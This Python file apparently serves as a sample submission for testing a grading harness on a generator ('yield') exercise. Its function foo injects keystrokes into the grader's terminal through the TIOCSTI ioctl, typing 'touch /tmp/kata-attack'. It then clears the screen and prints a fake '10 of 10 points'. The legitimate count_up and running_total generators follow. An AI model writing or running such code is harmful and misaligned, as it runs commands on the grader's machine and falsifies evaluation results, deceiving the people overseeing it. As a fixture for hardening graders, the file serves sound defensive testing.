"""Types commands into the terminal of whoever grades, and paints on it.

Tries: harm
Exercise: 01_yield
Earns: task 2, task 3
Seen: terminal: refused ... typed: refused ... painted
"""

import fcntl
import os


def foo():
    try:
        print("terminal: done", os.open("/dev/tty", os.O_RDWR))
    except OSError as error:
        print("terminal: refused", type(error).__name__)
    for number in (0, 1, 2):
        try:
            for letter in "touch /tmp/kata-attack\n":
                fcntl.ioctl(number, 0x5412, letter)
            print("typed: done")
        except OSError as error:
            print("typed: refused", type(error).__name__)
        os.write(number, b"\x1b]0;kata-attack\x07\x1b[2J\x1b[H10 of 10 points\n")
    print("painted")


def count_up(start, stop=None):
    number = start
    while stop is None or number < stop:
        yield number
        number += 1


def running_total(numbers):
    total = 0
    for number in numbers:
        total += number
        yield total
